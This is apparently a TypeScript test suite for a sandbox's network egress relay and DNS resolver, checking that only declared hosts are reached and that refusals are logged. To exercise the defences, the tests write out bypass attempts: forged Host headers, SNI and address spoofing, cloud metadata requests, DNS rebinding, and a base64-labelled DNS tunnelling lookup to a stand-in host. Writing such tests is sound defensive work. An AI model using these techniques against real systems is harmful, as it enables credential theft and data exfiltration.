import { createHash } from 'node:crypto'
import { closeSync, openSync } from 'node:fs'
import { createServer } from 'node:net'
import t, { type Test } from 'tap'
import type { EvidenceBody } from '../../src/evidence/records.ts'
import { evidenceBody } from '../../src/evidence/records.ts'
import { openEgress } from '../../src/network/egress.ts'
import { openJournal } from '../../src/network/journal.ts'
import { testCell, type TestCell } from './fixtures/cell.ts'

const GRANTS = [
  ...['good', 'banner', 'bulk', 'broken', 'nobody', 'local', 'dns.good', 'own', 'rebind'].map(name => ({ host: `${name}.example`, port: 443 })),
  { host: 'good.example', port: 80 }, { host: 'six.example', port: 80 }, { host: '93.184.216.50', port: 443 }, { host: '10.20.30.0/24', port: 80 },
]
const curl = (...args: string[]): [string, ...string[]] => ['curl', '-sS', '-m', '20', ...args]
const resolvedTo = (address: string, name: string, port = 443): string[] => ['--resolve', `${name}:${port}:${address}`]

t.test('in enforce', async t => {
  const cell = await testCell({ grants: GRANTS, hosts: { 'local.example': '127.0.0.1', 'secret.example': '127.0.0.1' } })
  const flows = (): Extract<EvidenceBody, { type: 'flow' }>[] => cell.records('flow')
  /** What is told of the acts of `act`. */
  const during = async (act: () => Promise<unknown>): Promise<Extract<EvidenceBody, { type: 'flow' }>[]> => {
    // An earlier connection's end may still be on its way.
    for (let last = -1; last !== cell.lines.length;) {
      last = cell.lines.length
      await new Promise(resolve => setTimeout(resolve, 30))
    }
    const before = flows().length
    await act()
    for (let tries = 0; flows().length === before && tries < 200; tries += 1) await new Promise(resolve => setTimeout(resolve, 10))
    return flows().slice(before)
  }
  /** The attack works on the host, does not in the cell, and is told as refused for this reason. */
  const refused = async (t: Test, what: string, command: [string, ...string[]], reason: RegExp): Promise<void> => {
    t.match(await cell.outside(...command), { status: 0, out: /served/ }, `${what}: works without the relay`)
    const [flow] = await during(async () => t.not((await cell.inside(...command)).status, 0, `${what}: does not in the cell`))
    t.match(flow, { decision: 'refused', reason, bytesOut: 0 }, what)
  }

  await t.test('declared names are reached, and told with their name and bytes', async t => {
    const [tls] = await during(async () => t.match(await cell.inside(...curl('https://good.example/')), { status: 0, out: 'served good.example' }))
    t.match(tls, { name: 'good.example', nameSource: 'sni', address: '93.184.216.34', port: 443, decision: 'allowed', reason: 'declared' })
    t.ok(tls!.bytesOut > 400 && tls!.bytesIn > 500)
    const [plain] = await during(async () => t.match(await cell.inside(...curl('http://good.example/')), { out: 'served good.example' }))
    t.match(plain, { name: 'good.example', nameSource: 'host', port: 80, decision: 'allowed' })
    const [real] = await during(async () => t.match(await cell.inside(...curl('https://dns.good.example/', '-k')), { out: 'served dns.good.example' }))
    t.match(real, { name: 'dns.good.example', decision: 'allowed' }, 'resolved by a DNS server of the host')
    const [six] = await during(async () => t.match(await cell.inside(...curl('http://six.example/')), { out: 'served six.example' }))
    t.match(six, { name: 'six.example', address: '2606:4700::34', decision: 'allowed' })
    t.match(await cell.inside('wget', '-q', '-O-', 'http://good.example/'), { status: 0, out: 'served good.example' })
  })

  await t.test('the contract\'s hosts reach even the host\'s loopback, by name and not otherwise', async t => {
    const [flow] = await during(async () => t.match(await cell.inside(...curl('https://local.example/')), { status: 0, out: 'served local.example' }))
    t.match(flow, { name: 'local.example', nameSource: 'sni', address: /^198\.18\.0\./, decision: 'allowed' })
    await t.test('mapped but not declared', async t => {
      t.not((await cell.inside(...curl('https://secret.example/'))).status, 0)
      const [other] = await during(() => cell.inside(...curl('-k', 'https://198.18.0.2/')))
      t.match(other, { decision: 'refused', name: 'secret.example', reason: /not declared/ })
    })
    const [stray] = await during(() => cell.inside(...curl('-k', 'https://198.18.9.9/')))
    t.match(stray, { decision: 'refused', reason: /stands for no name/ })
  })

  await t.test('an undeclared name ends at once, and nobody outside hears of it', async t => {
    t.match(await cell.outside(...curl('https://evil.example/')), { status: 0, out: /served/ })
    t.match(await cell.inside(...curl('https://evil.example/')), { status: 6 })
    t.match(await cell.inside('getent', 'hosts', 'c2VjcmV0.tunnel.example'), { status: 2 })
    t.notOk(cell.lines.some(line => line.type === undefined && line.upstream?.includes('tunnel')))
    t.match(cell.records('dns').find(one => one.name === 'evil.example'), { decision: 'refused', reason: 'not declared' })
  })

  await t.test('a declared name is no cover for another', async t => {
    await cell.inside(...curl('https://good.example/'))
    await refused(t, 'another TLS name at a declared name\'s address', curl(...resolvedTo('93.184.216.34', 'neighbour.example'), 'https://neighbour.example/'), /TLS names neighbour.example, but the address was resolved for/)
    await refused(t, 'another HTTP host', curl('-H', 'Host: evil.example', 'http://good.example/'), /HTTP names evil.example/)
    await refused(t, 'an absolute target', curl('--request-target', 'http://evil.example/', 'http://good.example/'), /names no host, or several/)
    await refused(t, 'an address that was never resolved, with a declared TLS name', curl(...resolvedTo('93.184.216.60', 'good.example'), 'https://good.example/'), /did not give the address/)
    await refused(t, 'an address without a name', curl('-k', 'https://93.184.216.60/'), /did not give the address/)
    await refused(t, 'a name at a port that is not its own', curl(...resolvedTo('93.184.216.34', 'dns.good.example', 80), 'http://dns.good.example/'), /dns.good.example is not declared at port 80/)
    const [literal] = await during(async () => t.match(await cell.inside(...curl('-k', 'https://93.184.216.50/')), { status: 0 }))
    t.match(literal, { decision: 'allowed', name: null, reason: 'declared by address' })
  })

  await t.test('metadata, private and the host\'s own addresses are out of bounds', async t => {
    await refused(t, 'the metadata service', curl('http://169.254.169.254/'), /metadata/)
    await refused(t, 'the host itself', curl('http://93.184.216.99/'), /own addresses/)
    t.match(await cell.inside(...curl('-k', 'https://rebind.example/')), { status: 6 }, 'a declared name that resolves to it')
    t.match(await cell.inside(...curl('-k', 'https://own.example/')), { status: 6 })
    await refused(t, 'a private address at a port that is not declared', curl('-k', 'https://10.20.30.40/'), /private/)
    t.match(await cell.inside(...curl('http://10.20.30.40/')), { status: 0 }, 'a private network that the contract names')
    const [mapped] = await during(() => cell.inside(...curl('-g', 'http://[::ffff:169.254.169.254]/')))
    t.match(mapped, { decision: 'refused', address: '169.254.169.254' })
    const [own] = await during(() => cell.inside(...curl('-k', 'https://127.0.0.1/')))
    t.match(own, { decision: 'refused', address: '127.0.0.1', reason: /not to be dialled/ }, 'the relay\'s own socket')
  })

  await t.test('a server that speaks first is heard, and a client that waits is checked all the same', async t => {
    t.match(await cell.script(`net.connect(443, 'banner.example').on('data', data => { say(String(data).trim()); process.exit() })`), { out: '220 ready\n' })
    const late = await cell.script(`const raw = net.connect(443, 'banner.example')
      raw.once('data', () => setTimeout(() => tls.connect({ socket: raw, servername: 'evil.example' }).on('error', error => say(error.code)), 300)).on('error', () => {})`)
    t.match(late.out, /ECONNRESET/)
    t.match(flows().at(-1), { decision: 'refused', name: 'evil.example', nameSource: 'sni', bytesOut: 0, bytesIn: 10 })
    const [mail] = await during(() => cell.script(`net.connect(443, 'banner.example').once('data', function () { this.end('EHLO me\\r\\n') }).on('close', () => process.exit())`).then(() => {}))
    t.match(cell.lines.filter(line => line.type === undefined && line.heard !== undefined), [{ heard: 'EHLO me\r\n' }], 'and only what was let through reached the server')
    t.match(mail ?? {}, {})
  })

  await t.test('50 MB each way at once, with a half-close, arrive whole', async t => {
    const { out, err } = await cell.script(`
      const { createHash } = await import('node:crypto')
      const sent = createHash('sha256'), got = createHash('sha256')
      let bytes = 0, tail = ''
      const socket = net.connect({ host: 'bulk.example', port: 443, allowHalfOpen: true })
      socket.on('data', data => { const body = Math.min(data.length, Math.max(0, 52428800 - bytes)); got.update(data.subarray(0, body)); tail += data.subarray(body); bytes += data.length })
      socket.on('end', () => { say(JSON.stringify({ bytes, got: got.digest('hex'), sent: sent.digest('hex'), tail })) ; socket.destroy() })
      const chunk = Buffer.alloc(65536)
      for (let index = 0; index < 800; index += 1) { chunk.writeUInt32BE(index * 2654435761 % 4294967296, index % 60000); sent.update(chunk); if (!socket.write(Buffer.from(chunk))) await new Promise(resolve => socket.once('drain', resolve)) }
      socket.end()`)
    t.equal(err, '')
    const end = JSON.parse(out) as { bytes: number; got: string; sent: string; tail: string }
    t.equal(end.tail, `52428800 ${end.sent}`)
    t.equal(end.got, createHash('sha256').update(Buffer.alloc(52_428_800, 0x62)).digest('hex'))
    const [flow] = flows().filter(one => one.name === 'bulk.example')
    t.match(flow, { bytesOut: 52_428_800, bytesIn: end.bytes, decision: 'allowed' })
  })

  await t.test('a server that breaks off or is not there is told as it is, and what it sent arrives', async t => {
    const [broken] = await during(async () => t.match(await cell.script(`net.connect(443, 'broken.example', function () { this.write('x\\n') }).on('data', data => say(String(data))).on('error', error => say(error.code))`), { out: 'half an answer\nECONNRESET\n' }))
    t.match(broken, { decision: 'allowed', reason: /the server broke it off: ECONNRESET/, bytesIn: 14, bytesOut: 2 })
    const [nobody] = await during(async () => t.not((await cell.inside(...curl('-k', 'https://nobody.example/'))).status, 0))
    t.match(nobody, { decision: 'allowed', name: 'nobody.example', reason: /could not be reached: ECONNREFUSED/, bytesOut: 0 })
  })

  await t.test('DNS works over TCP and over IPv6, and survives what is not DNS', async t => {
    const asked = await cell.script(`
      const { createSocket } = await import('node:dgram')
      const query = Buffer.from('00070100000100000000000004676f6f64076578616d706c650000010001', 'hex')
      const framed = Buffer.concat([Buffer.from([0, query.length]), query])
      for (const host of ['127.0.0.1', '::1']) {
        for (const noise of [Buffer.alloc(1), Buffer.alloc(3000, 255), Buffer.alloc(12), query.subarray(0, 20)]) { const socket = createSocket(host === '::1' ? 'udp6' : 'udp4'); socket.send(noise, 53, host, () => socket.close()) }
        net.connect(53, host, function () { this.end(Buffer.alloc(70000, 255)) }).on('error', () => {}).resume()
        const replies = await new Promise(resolve => { let all = ''; net.connect(53, host, function () { for (const byte of framed) this.write(Buffer.from([byte])); this.write(Buffer.concat([framed, framed])); this.end() }).setNoDelay().on('data', data => { all += data.toString('hex') }).on('end', () => resolve(all)) })
        say(replies.split('5db8d822').length - 1)
        const socket = createSocket(host === '::1' ? 'udp6' : 'udp4')
        say(await new Promise(resolve => { socket.once('message', reply => resolve(reply.toString('hex').endsWith('5db8d822'))); socket.send(query, 53, host) }))
        socket.close()
      }`)
    t.equal(asked.out, '3\ntrue\n3\ntrue\n', asked.err)
  })

  await t.test('the end of the cell cuts and tells what is open, and gives every descriptor back', async t => {
    const idle = cell.scriptStarted(`net.connect(443, 'banner.example').on('data', () => say('open')).on('error', error => { say(error.code) })`)
    let said = ''
    idle.stdout!.on('data', (data: Buffer) => { said += data.toString() })
    await new Promise(resolve => idle.stdout!.once('data', resolve))
    const over = new Promise(resolve => idle.once('close', resolve))
    await cell.close()
    await over
    t.match(said, /open\nECONNRESET/)
    t.match(flows().at(-1), { name: 'banner.example', decision: 'allowed', reason: 'declared; still open when the cell ended' })
    t.match(cell.lines.at(-1), { closed: true, left: [] })
    for (const line of cell.lines) if (line.type !== undefined) t.doesNotThrow(() => evidenceBody.parse(line))
    t.strictSame(cell.records('loss'), [])
  })
})

t.test('in observe everything public is reached and told by the name that is known for sure', async t => {
  const cell: TestCell = await testCell({ grants: [{ host: 'good.example', port: 443 }], mode: 'observe' })
  t.match(cell.lines.at(-1), { ready: true, hooks: [{ name: 'relay', family: 'network', state: 'attached' }, { name: 'resolver', family: 'dns', state: 'attached' }] })
  t.match(await cell.inside(...curl('https://good.example/')), { status: 0 })
  t.match(await cell.inside(...curl('https://evil.example/')), { status: 0 })
  t.match(await cell.inside(...curl('-k', 'https://93.184.216.50/')), { status: 0 })
  t.match(await cell.inside(...curl(...resolvedTo('93.184.216.60', 'good.example'), 'https://good.example/')), { status: 0 })
  t.not((await cell.inside(...curl('http://169.254.169.254/'))).status, 0)
  t.not((await cell.inside(...curl('-k', 'https://10.20.30.40/'))).status, 0)
  await cell.close()
  t.match(cell.records('flow').map(one => [one.name, one.nameSource, one.address, one.decision, one.reason]), [
    ['good.example', 'sni', '93.184.216.34', 'allowed', 'declared'],
    ['evil.example', 'sni', '93.184.216.60', 'allowed', /not declared/],
    [null, 'none', '93.184.216.50', 'allowed', /not resolved in this cell/],
    ['evil.example', 'resolver', '93.184.216.60', 'allowed', /TLS names good.example, but the address was resolved for evil.example/],
    [null, 'none', '169.254.169.254', 'refused', /metadata/],
    [null, 'none', '10.20.30.40', 'refused', /private/],
  ])
})

t.test('descriptors that are not sockets are refused, and the others are not leaked', async t => {
  const server = createServer().listen(0, '127.0.0.1')
  await new Promise(resolve => server.once('listening', resolve))
  const files = Array.from({ length: 6 }, () => openSync('/dev/null', 'r'))
  const [relay4, relay6, dnsUdp4, dnsUdp6, dnsTcp4, dnsTcp6] = files as [number, number, number, number, number, number]
  await t.rejects(openEgress({ netns: -1, answers: -1, sockets: { relay4, relay6, dnsUdp4, dnsUdp6, dnsTcp4, dnsTcp6, udp4: -1, udp6: -1 }, grants: [], hosts: {}, mode: 'enforce', emit: () => {} }), { code: 'CELL_FAILED' })
  for (const fd of files) t.throws(() => closeSync(fd), { code: 'EBADF' })
  server.close()
})

t.test('a flood of connections is told in full up to a bound, then in sums, then as lost', async t => {
  const told: EvidenceBody[] = []
  const journal = openJournal(body => told.push(body), { kinds: 3, each: 5, all: 8 })
  const flow = (number: number, address: string): Extract<EvidenceBody, { type: 'flow' }> => ({ type: 'flow', flow: number, name: null, nameSource: 'none', address, port: 1, decision: 'refused', reason: 'no', bytesOut: 1, bytesIn: 2, durationMs: 0 })
  for (let number = 0; number < 100; number += 1) journal.flow(flow(number, '192.0.2.1'))
  for (let number = 0; number < 4; number += 1) journal.flow(flow(number, `192.0.2.${10 + number}`))
  journal.flow({ ...flow(200, '192.0.2.99'), decision: 'allowed' })
  t.match(told.at(-1), { decision: 'allowed', flow: 200 }, 'what was allowed is told all the same')
  journal.close()
  journal.flow(flow(0, '192.0.2.1'))
  t.equal(told.length, 10)
  t.match(told.find(one => one.type === 'flow' && one.bytesOut === 95), { bytesIn: 190, reason: 'no (95 connections, told together)' })
  t.match(told.at(-1), { type: 'loss', family: 'network', event: 'flow', produced: 105, delivered: 103, dropped: 2 })
})
